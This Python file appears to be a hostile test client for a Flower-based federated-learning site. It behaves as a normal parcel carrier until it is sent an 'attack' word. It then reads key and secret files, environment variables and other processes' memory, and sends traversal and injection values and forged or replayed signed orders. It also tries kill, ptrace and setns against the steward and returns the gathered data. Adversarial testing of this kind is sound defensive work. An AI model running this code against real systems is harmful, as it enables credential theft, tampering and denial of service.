"""A foreign ClientApp: carries parcels until it is told to attack, then takes what it can get.

The test ships this text as a bundle's ClientApp. As a program, ``foreign_app.py HOME``, it does the
reading part alone and writes what it got to standard output.
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import json
import os
import shutil
import signal
import socket
import ssl
import stat
import sys
import tomllib
import urllib.request
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from flwr.app import Array, ArrayRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.proto.runtime_pb2 import AcquireTaskRequest
from flwr.supercore import interceptors
from flwr.supercore.runtime import RuntimeHttpClient

from vitrael.client.site.courier.app import deliver, unpack
from vitrael.core.messages import Task
from vitrael.privacy.envelope import sign_task
from vitrael.privacy.keys import KeyPair

KNOWN = (
    *("keys/node", "keys/signing.pem", "keys/sealing.pem", "keys/split.key", "store.sqlite"),
    *("cohorts/main/manifest.json", "records/filter/point.json", "cohorts", "records", "keys"),
    *("journal.jsonl", "coordinator.json", "roster.json", "steward.log", "updates", "site.toml"),
    *("authority.pem", "steward.json", "metrics.prom", ".", "flower", "spool"),
    *("flower/tls", "flower/tls/ca.crt", "flower/superexec.secret", "spool/in", "spool/out"),
    *("flower/tls/server.key", "flower/node", "flower/node/node.id", "flower/node/courier.log"),
)
PATHS = (
    *("..", ".", "", "/", "../../cohorts/main", "../../keys", "a/b", ".partial-a", "in", "a\x00b"),
    *("x" * 65, "-rf", "~", "%2e%2e", "..\\..\\keys", None, 7, ["a"], {"parcel": "a"}),
)
PAGES = ("acquire-task", "pull-messages", "pull-object", "pull-task-input", "push-task-output")

PTRACE_SEIZE = 0x4206


class Attack:
    """What was tried, how it ended, and all bytes that came of it."""

    def __init__(self, home: Path, kept: Path) -> None:
        self.home, self.kept, self.steward_pid = home, kept, 0
        self.told: dict[str, dict[str, Any]] = {}
        self.loot: list[bytes] = []

    def attempt(self, name: str, act: Callable[[], object]) -> None:
        """Note whether an act was denied, and keep what it gave."""
        try:
            gave = act()
        except Exception as error:  # noqa: BLE001 - whatever stopped it is the outcome
            self.told[name] = {"ok": False, "how": f"{type(error).__name__}: {error}"[:200]}
            return
        data = gave if isinstance(gave, bytes) else repr(gave).encode()
        self.loot.append(data)
        said = data[:120].decode("latin-1")
        self.told[name] = {"ok": '{"error"' not in said[:9], "how": said}

    def read(self) -> None:
        """Read every file that can be found or guessed, the environment, and other processes."""
        self.attempt("own environment", lambda: json.dumps(dict(os.environ)).encode())
        roots = [self.home / name for name in (".", "flower/executor", "spool/in", "spool/out")]
        walks = [step for root in roots for step in os.walk(root)]
        seen = {Path(folder) / name for folder, _, names in walks for name in names}
        for path in sorted(seen | {self.home / name for name in KNOWN}):
            name = str(path.relative_to(self.home))
            self.attempt(f"read {name}", lambda path=path: taken(path))
        for pid, who in self.processes():
            if "steward" in who:
                self.steward_pid = pid
            for file in ("environ", "maps", "fd", "cwd", "root"):
                place = Path(f"/proc/{pid}/{file}")
                self.attempt(f"{who} {file}", lambda place=place: taken(place))
            self.attempt(f"{who} mem", lambda pid=pid: read_memory(pid))

    def processes(self) -> Iterator[tuple[int, str]]:
        """Yield this home's other processes, each with a name."""
        for folder in sorted(Path("/proc").glob("[0-9]*"), key=lambda one: int(one.name)):
            with contextlib.suppress(OSError):
                words = (folder / "cmdline").read_bytes().replace(b"\0", b" ").decode()
                if str(self.home) not in words or int(folder.name) == os.getpid():
                    continue
                own = folder.stat().st_uid == os.getuid()
                for kind in ("marked_steward", "courier.node", "--only node"):
                    if kind in words and (kind == "marked_steward" or not own):
                        yield int(folder.name), kind

    def tamper(self) -> None:
        """Write where nothing of it belongs, and bend what the steward writes to."""
        home, own = self.home, self.kept
        for name in ("coordinator.json", "journal.jsonl", "store.sqlite", "keys/signing.pem"):
            self.attempt(f"append {name}", lambda name=name: (home / name).open("ab").close())
            self.attempt(f"remove {name}", (home / name).unlink)
            self.attempt(f"chmod {name}", lambda name=name: (home / name).chmod(0o666))
        for place in (".", "keys", "cohorts", "records", "updates", "flower", "spool", "spool/out"):
            self.attempt(f"create {place}/x", (home / place / "x").mkdir)
        for name in ("spool", "spool/in", "spool/out", "keys", "cohorts"):
            self.attempt(f"swap {name}", lambda name=name: swap(home / name, home / "keys"))
        self.attempt("link cohort", lambda: os.link(home / "cohorts/main/manifest.json", own / "h"))
        sock = home / "steward.sock"
        self.attempt("take the socket", lambda: sock.rename(sock.with_suffix(".old")))

    def speak(self) -> None:
        """Send the steward everything but an honest order."""
        for number, name in enumerate(PATHS):
            line = json.dumps({"parcel": name}).encode() + b"\n"
            self.attempt(f"path {number}", lambda line=line: self.hear(line))
        for line in (b"\x00\xff{]\n", b"no end", b"", b"x" * (1 << 20), b"[" * 4000 + b"\n"):
            self.attempt(f"say {line[:6]!r}", lambda line=line: self.hear(line))
        for name, make in PARCELS.items():
            self.attempt(f"parcel {name}", lambda make=make: self.ask(make))
        self.attempt("fill the spool", self.fill)

    def replay(self) -> None:
        """Send the orders that were carried before again, as they were and changed."""
        for old in sorted(self.kept.glob("order-*")):
            self.attempt(f"replay {old.name}", lambda old=old: self.ask(copying(old)))
            for name, bend in BENT.items():
                self.attempt(
                    f"replay {old.name} {name}",
                    lambda old=old, bend=bend: self.ask(copying(old, bend)),
                )
            for way in ("dropped", "changed", "foreign"):
                self.attempt(
                    f"replay {old.name} attachment {way}",
                    lambda old=old, way=way: self.ask(copying(old, attachments=way)),
                )

    def hear(self, line: bytes) -> bytes:
        """Return what the steward says to a line."""
        note = json.loads((self.home / "steward.json").read_bytes())
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(30)
            one.connect(note["socket"])
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                one.sendall(line)
                one.shutdown(socket.SHUT_WR)
            return one.recv(1 << 16)

    def ask(self, make: Callable[[Path, Path], None]) -> bytes:
        """Lay a parcel and return the steward's line and every byte of what it lays in return."""
        folder = self.home / "spool" / "in" / uuid.uuid4().hex
        make(folder, self.home)
        line = self.hear(json.dumps({"parcel": folder.name}).encode() + b"\n")
        reply = json.loads(line).get("parcel")
        if reply is None:
            raise PermissionError(line.decode())
        answer = self.home / "spool" / "out" / reply
        return line + b"".join(path.read_bytes() for path in sorted(answer.iterdir()))

    def fill(self) -> int:
        """Lay more than a disk could hold; return how many parcels there were for others to see."""
        inbox = self.home / "spool" / "in"
        for number in range(500):
            (inbox / f"junk{number}").mkdir(mode=0o700)
        sparse(inbox / "large")
        return len(list(inbox.iterdir()))

    def hit(self) -> None:
        """Stop, end or trace the steward, and leave this user and this network."""
        assert self.steward_pid  # 0 is itself
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            self.attempt(f"kill {number.name}", lambda n=number: os.kill(self.steward_pid, n))
        self.attempt("ptrace", lambda: called("ptrace", PTRACE_SEIZE, self.steward_pid, 0, 0))
        self.attempt("its network", lambda: entered(self.steward_pid))
        self.attempt("setuid", lambda: os.setuid(self.home.stat().st_uid))
        self.attempt("route outside", routed)

    def flower(self) -> None:
        """Ask the SuperNode for what is not this task's."""
        port = tomllib.loads((self.home / "site.toml").read_text())["network"]["node_port"]
        trust = ssl.create_default_context(cafile=str(self.home / "flower/tls/ca.crt"))
        for page in PAGES:
            url = f"https://127.0.0.1:{port}/v1/runtime/{page}"
            self.attempt(f"flower {page}", lambda url=url: posted(url, trust))
        self.attempt("flower with the secret", lambda: acquired(self.home, port))

    def run(self) -> None:
        """Do all of it."""
        self.read()
        self.speak()
        self.replay()
        self.tamper()
        self.flower()
        self.hit()


def copying(
    old: Path, bend: Callable[[bytes], bytes] = bytes, *, attachments: str = "kept"
) -> Callable[[Path, Path], None]:
    """Return what lays an old order again."""

    def make(folder: Path, _home: Path) -> None:
        shutil.copytree(old, folder)
        (folder / "envelope").write_bytes(bend((folder / "envelope").read_bytes()))
        for path in folder.iterdir():
            if path.name != "envelope" and attachments == "dropped":
                path.unlink()
            elif path.name != "envelope" and attachments == "changed":
                path.write_bytes(path.read_bytes()[:-1] + b"x")
        if attachments == "foreign":
            (folder / "another").write_bytes(b"x")
        open_to_group(folder)

    return make


def changed(**fields: object) -> Callable[[bytes], bytes]:
    """Return what changes fields of the signed document and leaves the signature."""

    def bend(envelope: bytes) -> bytes:
        document = json.loads(envelope)
        task = json.loads(base64.b64decode(document["payload"])) | fields
        text = json.dumps(task, sort_keys=True, separators=(",", ":")).encode()
        document["payload"] = base64.b64encode(text).decode()
        return json.dumps(document).encode()

    return bend


def own_key(envelope: bytes) -> bytes:
    """Return an order signed by a key of its own."""
    payload = base64.b64decode(json.loads(envelope)["payload"])
    return sign_task(Task.from_bytes(payload), KeyPair.create())


BENT: dict[str, Callable[[bytes], bytes]] = {
    "another round": changed(round=7),
    "another stage": changed(stage="latents"),
    "another nonce": changed(nonce="0" * 32),
    "unsigned": lambda envelope: json.dumps({**json.loads(envelope), "signatures": []}).encode(),
    "signed by another": own_key,
}


def open_to_group(folder: Path) -> None:
    for path in folder.iterdir():
        if path.is_file() and not path.is_symlink():
            path.chmod(0o660)
    folder.chmod(0o770)


def laid(fill: Callable[[Path, Path], object]) -> Callable[[Path, Path], None]:
    """Return what makes a parcel folder and fills it."""

    def make(folder: Path, home: Path) -> None:
        folder.mkdir()
        fill(folder, home)
        open_to_group(folder)

    return make


def sparse(path: Path) -> None:
    path.touch()
    os.truncate(path, 1 << 40)


PARCELS: dict[str, Callable[[Path, Path], None]] = {
    "link to a scan": laid(
        lambda f, home: (f / "envelope").symlink_to(home / "cohorts/main/manifest.json")
    ),
    "link to a key": laid(lambda f, home: (f / "envelope").symlink_to(home / "keys/signing.pem")),
    "is a link": lambda f, home: f.symlink_to(home / "cohorts" / "main"),
    "is a file": lambda f, _: f.touch(),
    "pipe": laid(lambda f, _: os.mkfifo(f / "envelope")),
    "folder inside": laid(lambda f, _: (f / "envelope").mkdir()),
    "too large": laid(lambda f, _: sparse(f / "envelope")),
    "too many": laid(lambda f, _: [(f / f"e{n}").touch() for n in range(100)]),
    "empty": laid(lambda _f, _h: None),
    "no order": laid(lambda f, _: (f / "envelope").write_bytes(b'{"stage": "codec"}')),
}


def taken(path: Path) -> bytes:
    """Return what a file or a folder holds."""
    handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        if stat.S_ISDIR(os.fstat(handle).st_mode):
            return repr(sorted(os.listdir(handle))).encode()  # noqa: PTH208 - a descriptor
        return os.read(handle, 1 << 24)
    finally:
        os.close(handle)


def read_memory(pid: int) -> bytes:
    place = Path(f"/proc/{pid}")
    with (place / "maps").open() as maps, (place / "mem").open("rb") as mem:
        rows = [line.split() for line in maps if line.rstrip().endswith(("[heap]", "[stack]"))]
        spans = [row[0].split("-") for row in rows]
        data = b""
        for begin, end in spans:
            with contextlib.suppress(OSError, ValueError):
                mem.seek(int(begin, 16))
                data += mem.read(int(end, 16) - int(begin, 16))
        return data


def swap(place: Path, target: Path) -> str:
    """Put a link in the place of a folder, and put the folder back."""
    aside = place.with_name(f"{place.name}.aside")
    place.rename(aside)
    try:
        place.symlink_to(target)
        place.unlink()
    finally:
        aside.rename(place)
    return "swapped"


def called(name: str, *words: int) -> int:
    """Call a function of the C library; raise OSError when it says no."""
    libc = ctypes.CDLL(None, use_errno=True)
    if (said := int(getattr(libc, name)(*words))) < 0:
        raise OSError(ctypes.get_errno(), name)
    return said


def entered(pid: int) -> int:
    with Path(f"/proc/{pid}/ns/net").open("rb") as place:
        return called("setns", place.fileno(), 0)


def routed() -> str:
    """Say whether there is a way outside; UDP sends nothing before it is told to."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect(("192.0.2.1", 443))
        return "a route"


def posted(url: str, trust: ssl.SSLContext) -> bytes:
    head = {"Content-Type": "application/protobuf"}
    request = urllib.request.Request(url, data=b"", headers=head)  # noqa: S310 - loopback
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=trust)
    )
    with opener.open(request, timeout=10) as answer:
        return bytes(answer.read())


def acquired(home: Path, port: int) -> bytes:
    client = RuntimeHttpClient.from_server_address(
        server_address=f"127.0.0.1:{port}",
        insecure=False,
        root_certificates=(home / "flower/tls/ca.crt").read_bytes(),
        interceptors=[
            interceptors.RuntimeVersionHttpInterceptor(component_name="SuperExec"),
            interceptors.SuperExecAuthHttpInterceptor(
                master_secret=(home / "flower/superexec.secret").read_bytes().strip(),
                protected_methods=frozenset({"/flwr.proto.Runtime/AcquireTask"}),
            ),
        ],
    )
    with client:
        request = AcquireTaskRequest(supported_task_types=["flwr-clientapp"])
        return bytes(client.AcquireTask(request).SerializeToString())


def answer_message(message: Message, context: Context) -> Message:
    """Carry a parcel and keep a copy; at the word ``attack`` attack."""
    home = Path(str(context.node_config["home"]))
    kept = home / "flower" / "executor" / "kept"
    kept.mkdir(exist_ok=True)
    if message.content.config_records["terms"].get("word") != "attack":
        number = len(list(kept.glob("order-*")))
        (kept / f"order-{number}").mkdir()
        for name, data in unpack(message.content.array_records["parcel"]).items():
            (kept / f"order-{number}" / name).write_bytes(data)
        return deliver(message, context)
    attack = Attack(home, kept)
    attack.run()
    entries = {"report": json.dumps(attack.told).encode(), "loot": b"\n".join(attack.loot)}
    arrays = {name: Array("uint8", (len(data),), "raw", data) for name, data in entries.items()}
    return Message(RecordDict({"parcel": ArrayRecord(arrays)}), reply_to=message)


app = ClientApp()
app.query()(answer_message)


if __name__ == "__main__":
    reading = Attack(Path(sys.argv[1]), Path(sys.argv[1]))
    reading.read()
    sys.stdout.buffer.write(b"\n".join(reading.loot))
